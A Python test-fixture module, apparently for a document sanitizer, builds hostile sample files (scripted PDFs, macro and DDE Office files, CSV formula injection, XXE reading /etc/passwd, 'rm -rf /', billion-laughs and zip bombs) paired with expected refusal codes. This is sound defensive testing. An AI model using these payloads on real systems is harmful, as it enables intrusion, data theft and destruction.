"""Files that mean harm, made here and nowhere kept: each with the code of the
refusal that should come, or None where it is made harmless."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

import docx
import pikepdf
from openpyxl import Workbook
from PIL import Image

Case = tuple[str, bytes, str | None]


def word(text: str = "Gewone tekst.") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def excel(value: str = "gewoon") -> bytes:
    book = Workbook()
    book.active["A1"] = value  # type: ignore[index]
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


OPEN = "urn:oasis:names:tc:opendocument:xmlns:"
NAMESPACES = "".join(
    f' xmlns:{name}="{OPEN}{where}:1.0"'
    for name, where in [
        ("office", "office"), ("text", "text"), ("table", "table"), ("draw", "drawing"), ("script", "script"), ("form", "form"),
        ("meta", "meta"), ("style", "style"),
    ]
) + ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dc="http://purl.org/dc/elements/1.1/"'  # fmt: skip


def opened(body: str, kind: str = "text", parts: dict[str, bytes] | None = None, before: str = "") -> bytes:
    """An OpenDocument file with this in its body, and these parts beside it."""
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?>{before}<office:document-content{NAMESPACES}>'
        f"<office:scripts/><office:body><office:{kind}>{body}</office:{kind}></office:body></office:document-content>"
    )
    mime = f"application/vnd.oasis.opendocument.{kind}".encode()
    return packed({"mimetype": mime, "content.xml": content.encode(), **(parts or {})})


def odt(text: str = "Gewone tekst.") -> bytes:
    return opened(f"<text:p>{text}</text:p>")


def ods(text: str = "gewoon") -> bytes:
    row = f"<table:table-row><table:table-cell><text:p>{text}</text:p></table:table-cell></table:table-row>"
    return opened(f'<table:table table:name="Blad">{row}</table:table>', "spreadsheet")


def powerpoint() -> bytes:
    return packed({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p:presentation/>"})


def packed(parts: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()


def changed(data: bytes, add: dict[str, bytes] | None = None, replace: dict[str, tuple[bytes, bytes]] | None = None) -> bytes:
    """The same archive with parts added, or words in a part replaced."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name, (old, new) in (replace or {}).items():
        assert old in parts[name], (name, old)
        parts[name] = parts[name].replace(old, new, 1)
    return packed(parts | (add or {}))


def pdf(**root: object) -> bytes:
    made = pikepdf.new()
    made.add_blank_page()
    for name, value in root.items():
        made.Root[f"/{name}"] = made.make_indirect(value) if isinstance(value, dict | pikepdf.Dictionary) else value
    return _saved(made)


def _saved(made: pikepdf.Pdf, **how: object) -> bytes:
    stream = io.BytesIO()
    made.save(stream, **how)  # type: ignore[arg-type]
    return stream.getvalue()


def picture(form: str, size: tuple[int, int] = (20, 20)) -> bytes:
    stream = io.BytesIO()
    Image.new("RGB", size, "teal").save(stream, form)
    return stream.getvalue()


D, N = pikepdf.Dictionary, pikepdf.Name


def programs() -> Iterator[Case]:
    for name, start in [
        ("windows.exe", b"MZ\x90\0\3\0\0\0"),
        ("bibliotheek.dll", b"MZ\0\0"),
        ("linux", b"\x7fELF\2\1\1\0"),
        ("mac", b"\xcf\xfa\xed\xfe\7\0\0\1"),
        ("mac32", b"\xfe\xed\xfa\xce\0"),
        ("klas.class", b"\xca\xfe\xba\xbe\0\0\0\x34"),
        ("koppeling.lnk", b"L\0\0\0\1\x14\2\0"),
        ("help.chm", b"ITSF\3\0\0\0"),
        ("flits.swf", b"CWS\x0a\0\0\0"),
        ("archief.7z", b"7z\xbc\xaf\x27\x1c\0\4"),
        ("archief.rar", b"Rar!\x1a\7\1\0"),
        ("archief.gz", b"\x1f\x8b\x08\0\0\0\0\0"),
        ("kabinet.cab", b"MSCF\0\0\0\0"),
        ("schijf.iso", b"\0" * 64 + b"CD001"),
        ("web.wasm", b"\0asm\1\0\0\0"),
    ]:
        yield name, start + b"\0rommel" * 20, "binary"
    yield "oud.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "locked"
    yield "leeg.pdf", b"", "empty"
    yield "wit.txt", b" \n\t ", "empty"


def texts() -> Iterator[Case]:
    for name, text in [
        ("bladzijde.html", "<!doctype html><script>alert(1)</script>"),
        ("tekening.svg", "<svg xmlns='x' onload='alert(1)'/>"),
        ("stuk.xml", "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"),
        ("script.sh", "#!/bin/sh\nrm -rf /"),
        ("script.html.txt", "Hallo <script src=x></script>"),
        ("raam.txt", "Hallo < iframe src=x>"),
        ("brief.rtf", "{\\rtf1\\ansi{\\object\\objocx}}"),
        ("druk.ps", "%!PS-Adobe-3.0\n(x) run"),
        ("lijst.csv", "naam;waarde\nx;=cmd|' /C calc'!A0"),
        ("lijst2.csv", 'a,"=HYPERLINK(""http://kwaad"",""klik"")"'),
        ("lijst3.csv", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("lijst4.csv", '+WEBSERVICE("http://kwaad")'),
        ("commentaar.html", "<!-- x --><img src=x onerror=alert(1)>"),
    ]:
        yield name, text.encode(), "active"
    yield "breed.html", "<!doctype html><script>alert(1)</script>".encode("utf-16"), "active"
    yield "besturing.txt", b"tekst \x1b[2J\x07 weg", "binary"
    yield "nul.txt", b"tekst\0meer", "binary"


def script() -> pikepdf.Dictionary:
    return D(S=N.JavaScript, JS="app.alert(1)")


def pdfs() -> Iterator[Case]:
    yield "script.pdf", pdf(OpenAction=script()), "active"
    yield "programma.pdf", pdf(OpenAction=D(S=N.Launch, F="cmd.exe")), "active"
    yield "verstuurt.pdf", pdf(OpenAction=D(S=N.SubmitForm, F="http://kwaad")), "active"
    yield "elders.pdf", pdf(OpenAction=D(S=N.GoToR, F="\\\\kwaad\\x.pdf")), "active"
    yield "ingebed.pdf", pdf(Names=D(EmbeddedFiles=D(Names=[]))), "active"
    yield "namen.pdf", pdf(Names=D(JavaScript=D(Names=["a", script()]))), "active"
    yield "xfa.pdf", pdf(AcroForm=D(XFA="<xdp/>")), "active"
    yield "meer.pdf", pdf(AA=D(WC=script())), "active"
    yield "gekleed.pdf", pdf(OpenAction=D(S=N.JavaScript, JS="1")).replace(b"/JavaScript", b"/J#61vaScript"), "active"
    hidden = pikepdf.new()
    hidden.add_blank_page()
    hidden.Root.OpenAction = hidden.make_indirect(script())
    yield "verstopt.pdf", _saved(hidden, object_stream_mode=pikepdf.ObjectStreamMode.generate), "active"
    annotated = pikepdf.new()
    page = annotated.add_blank_page()
    page.Annots = annotated.make_indirect([D(Type=N.Annot, Subtype=N.FileAttachment, Rect=[0, 0, 9, 9])])
    yield "paperclip.pdf", _saved(annotated), "active"
    rich = pikepdf.new()
    rich.add_blank_page().Annots = [D(Type=N.Annot, Subtype=N.RichMedia, Rect=[0, 0, 9, 9])]
    yield "film.pdf", _saved(rich), "active"
    yield "slot.pdf", _saved(_new(), encryption=pikepdf.Encryption(owner="a", user="b")), "locked"
    yield "half-slot.pdf", _saved(_new(), encryption=pikepdf.Encryption(owner="a", user="")), "locked"
    yield "kapot.pdf", b"%PDF-1.7\nrommel", "broken"
    yield "afgekapt.pdf", pdf()[:60], "broken"
    yield "kring.pdf", pdf()[:-200] + b"\nxref\n0 1\ntrailer<</Size 1/Prev 1>>startxref\n1\n%%EOF", None
    bomb = zlib.compress(b"\0" * 300_000_000, 1)
    yield "bom.pdf", _object_stream_bomb(bomb), None


def _new() -> pikepdf.Pdf:
    made = pikepdf.new()
    made.add_blank_page()
    return made


def _object_stream_bomb(packed_zeros: bytes) -> bytes:
    head = b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    stream = b"3 0 obj<</Type/ObjStm/N 100000/First 9999/Filter/FlateDecode/Length %d>>stream\n" % len(packed_zeros)
    body = head + stream + packed_zeros + b"\nendstream endobj\n"
    return body + b"trailer<</Root 1 0 R/Size 4>>\nstartxref\n0\n%%EOF"


def offices() -> Iterator[Case]:
    rels = "word/_rels/document.xml.rels"
    outside = (
        b'<Relationship Id="x9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
        b'Target="http://kwaad/x" TargetMode="External"/></Relationships>'
    )
    yield "macro.docx", changed(word(), {"word/vbaProject.bin": b"\xd0\xcf"}), "macros"
    yield "macro.xlsx", changed(excel(), {"xl/vbaProject.bin": b"\xd0\xcf"}), "macros"
    yield "MACRO.DOCX", changed(word(), {"WORD/VBAPROJECT.BIN": b"\xd0\xcf"}), "macros"
    yield "programma.docx", changed(word(), {"word/embeddings/rekenmachine.exe": b"MZ"}), "macros"
    yield "object.docx", changed(word(), {"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "active"
    yield "activex.docx", changed(word(), {"word/activeX/activeX1.xml": b"<a/>"}), "active"
    yield "soort.docx", changed(word(), replace={"[Content_Types].xml": (b".main+xml", b".macroEnabled.main+xml")}), "active"
    for kind in (b"attachedTemplate", b"oleObject", b"image", b"frame", b"subDocument"):
        yield f"buiten-{kind.decode()}.docx", changed(word(), replace={rels: (b"</Relationships>", outside % kind)}), "active"
    yield (
        "dde.docx",
        changed(
            word("PLEK"), replace={"word/document.xml": (b"<w:t>PLEK</w:t>", b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>")}
        ),
        "active",
    )
    cut = b"<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO x</w:instrText>"
    yield "dde-geknipt.docx", changed(word("PLEK"), replace={"word/document.xml": (b"<w:t>PLEK</w:t>", cut)}), "active"
    simple = b'<w:t>x</w:t></w:r><w:fldSimple w:instr="DDE x"/><w:r>'
    yield "dde-simpel.docx", changed(word("PLEK"), replace={"word/document.xml": (b"<w:t>PLEK</w:t>", simple)}), "active"
    entity = b"<!DOCTYPE a [<!ENTITY b 'c'>]>"
    yield "entiteit.docx", changed(word(), {"word/extra.xml": b"<?xml version='1.0'?>" + entity + b"<a>&b;</a>"}), "entities"
    yield (
        "entiteit16.docx",
        changed(word(), {"word/extra.xml": ("<?xml version='1.0'?>" + entity.decode()).encode("utf-16")}),
        "entities",
    )
    far = b"<!--" + b"x" * 9000 + b"-->" + entity
    yield "ver-entiteit.docx", changed(word(), {"word/extra.xml": b"<?xml version='1.0'?>" + far + b"<a>&b;</a>"}), "entities"
    yield "dde.xlsx", excel("=cmd|'/C calc'!A0"), "active"
    yield "web.xlsx", excel('=WEBSERVICE("http://kwaad")'), "active"
    yield "buiten.xlsx", changed(excel(), {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}), "active"
    yield "macroblad.xlsx", changed(excel(), {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}), "active"
    yield "inbouw.xlsx", changed(word(), {"word/embeddings/kwaad.xlsx": changed(excel(), {"xl/vbaProject.bin": b"x"})}), "active"
    yield "actie.pptx", changed(powerpoint(), {"ppt/slides/slide1.xml": b"<a action='ppaction://program?x'/>"}), "active"
    yield "bom.docx", changed(word(), {"word/media/nul.bin": b"\0" * 120_000_000}), "bomb"
    yield "veel.docx", changed(word(), {f"word/{number}": b"" for number in range(2100)}), "bomb"
    yield "afgekapt.docx", word()[:-300], "broken"
    yield "zip.docx", packed({"a.txt": b"x"}), "other-kind"
    yield "twee.docx", changed(word(), {"xl/workbook.xml": b"<a/>"}), "other-kind"
    yield "apk.zip", packed({"AndroidManifest.xml": b"x", "classes.dex": b"x"}), "other-kind"
    locked = bytearray(word())
    place = locked.find(b"PK\1\2")
    locked[place + 8] |= 1
    yield "slot.docx", bytes(locked), "locked"


def open_documents() -> Iterator[Case]:
    yield "macro.odt", opened("", parts={"Basic/Standard/Module1.xml": b"<a/>"}), "macros"
    yield "macro.ods", opened("", "spreadsheet", {"Scripts/python/kwaad.py": b"x"}), "macros"
    yield "programma.odt", opened("", parts={"Pictures/kwaad.exe": b"MZ"}), "macros"
    listener = '<text:p><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/></text:p>'
    outside = '<draw:frame><draw:%s xlink:href="%s"/></draw:frame>'
    source = '<table:table><table:table-source xlink:href="http://kwaad/x.ods"/></table:table>'
    formula = '<table:table><table:table-row><table:table-cell table:formula="of:=%s"/></table:table-row></table:table>'
    for name, body in [
        ("luistert.odt", listener),
        ("klik.odt", '<text:p><text:a xlink:href="vnd.sun.star.script:kwaad">hier</text:a></text:p>'),
        ("script.odt", '<text:p><text:a xlink:href="javascript:kwaad()">hier</text:a></text:p>'),
        ("dde.odt", "<text:p><text:dde-connection/></text:p>"),
        ("deel.odt", '<text:section><text:section-source xlink:href="file:///etc/passwd"/></text:section>'),
        ("beeld.odt", outside % ("image", "http://kwaad/x.png")),
        ("beeld2.odt", outside % ("image", "../../kwaad.png")),
        ("ole.odt", outside % ("object-ole", "./Object 1")),
        ("raam.odt", outside % ("floating-frame", "http://kwaad")),
        ("stekker.odt", outside % ("plugin", "http://kwaad")),
        ("formulier.odt", '<office:forms><form:form xlink:href="http://kwaad"/></office:forms>'),
        ("bron.ods", source),
        ("dde.ods", formula % "DDE(&quot;cmd&quot;;&quot;x&quot;;&quot;y&quot;)"),
        ("web.ods", formula % "WEBSERVICE(&quot;http://kwaad&quot;)"),
        ("ander.ods", formula % "['file:///c:/kwaad.ods'#$Blad.A1]"),
    ]:
        yield name, opened(body, "spreadsheet" if name.endswith("ods") else "text"), "active"
    manifest = b'<manifest xmlns="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><encryption-data/></manifest>'
    yield "slot.odt", opened("", parts={"META-INF/manifest.xml": manifest}), "locked"
    entity = "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>"
    yield "entiteit.odt", opened("<text:p>&b;</text:p>", before=entity), "entities"
    yield "ver-entiteit.odt", opened("<text:p>&b;</text:p>", before=f"<!--{'x' * 9000}-->{entity}"), "entities"
    laughs = "".join(f"<!ENTITY l{level} '{f'&l{level - 1};' * 10}'>" for level in range(1, 12))
    yield "lacht.ods", opened("&l11;", "spreadsheet", before=f"<!DOCTYPE a [<!ENTITY l0 'ha'>{laughs}]>"), "entities"
    yield "ebcdic.odt", _ebcdic(), "broken"
    yield "bom.odt", opened("", parts={"Pictures/nul.png": b"\0" * 120_000_000}), "bomb"
    yield "bom.ods", opened("", "spreadsheet", {"mimetype2": b"\0" * 120_000_000}), "bomb"
    yield "diep.odt", opened("<text:span>" * 300_000 + "</text:span>" * 300_000), None
    yield "film.odt", opened(outside % ("object", "Media/film.mp4"), parts={"Media/film.mp4": b"film"}), "uncleanable"
    yield "afgekapt.odt", odt()[:-60], "broken"
    yield "geen-soort.odt", packed({"content.xml": b"<a/>"}), "other-kind"
    yield (
        "sjabloon.ott",
        packed({"mimetype": b"application/vnd.oasis.opendocument.text-template", "content.xml": b"<a/>"}),
        "other-kind",
    )
    yield "soort-bom.odt", packed({"mimetype": b"\0" * 200_000_000, "content.xml": b"<a/>"}), "other-kind"
    yield "kapot.odt", packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a><b>"}), None
    yield (
        "twee.odt",
        changed(word(), {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"}),
        "other-kind",
    )


def _ebcdic() -> bytes:
    """Declares an entity in letters that no search for one finds."""
    text = '<?xml version="1.0" encoding="IBM037"?><!DOCTYPE a [<!ENTITY b "kwaad">]><a>&b;</a>'
    return packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": text.encode("cp037")})


def pictures() -> Iterator[Case]:
    yield "kapot.png", picture("PNG")[:60], "no-picture"
    yield "kapot.jpg", picture("JPEG")[:100], "no-picture"
    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", 13) + b"IHDR" + header + struct.pack(">I", zlib.crc32(b"IHDR" + header))
    yield (
        "bom.png",
        b"\x89PNG\r\n\x1a\n" + chunk + struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND")),
        "too-many-pixels",
    )
    yield "vermomd.png", b"\x89PNG\r\n\x1a\n<script>alert(1)</script>", "no-picture"
    yield "twee-gezichten.jpg", picture("JPEG") + b"<script>alert(1)</script>", None
    yield "met-archief.png", picture("PNG") + packed({"kwaad.exe": b"MZ"}), None


def every() -> list[Case]:
    return [
        *programs(),
        *texts(),
        *pdfs(),
        *offices(),
        *open_documents(),
        *pictures(),
        ("groot.txt", b"a" * (20 * 1024 * 1024 + 1), "too-large"),
    ]
